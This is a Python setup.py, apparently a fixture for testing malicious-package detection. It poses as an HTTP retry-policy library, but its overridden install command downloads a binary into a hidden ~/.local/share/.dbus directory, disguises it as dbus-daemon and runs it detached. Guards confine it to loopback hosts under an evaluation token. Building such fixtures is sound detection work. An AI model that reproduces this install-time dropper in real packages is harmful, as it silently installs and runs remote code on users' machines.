# Evaluation fixture (malicious): the classic dropper.  An overridden
# install command downloads a binary into a hidden directory of the home
# directory, makes it executable and starts it detached.  Acts only inside
# the evaluation: SP_TOKEN set, the CDN host resolving to loopback (the
# binary, built by the evaluation, only writes a marker and reports back).
import os
import socket
import subprocess
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        host = os.environ.get("SP_CDN_HOST")
        if os.environ.get("SP_TOKEN") and host:
            try:
                if socket.gethostbyname(host).startswith("127."):
                    d = os.path.expanduser("~/.local/share/.dbus")
                    os.makedirs(d, exist_ok=True)
                    exe = os.path.join(d, "dbus-daemon")
                    url = "http://%s:%s/rpol/bin/main/payload.elf" % (host, os.environ.get("SP_HTTP_PORT", "80"))
                    with urllib.request.urlopen(url, timeout=10) as r, open(exe, "wb") as f:
                        f.write(r.read())
                    os.chmod(exe, 0o755)
                    subprocess.Popen([exe, "dropper"], start_new_session=True,
                                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            except OSError:
                pass
        super().run()


setup(
    name="dropper-hidden-elf",
    version="2.7.1",
    description="HTTP client retry policies",
    py_modules=["retrypol"],
    cmdclass={"install": Install},
)
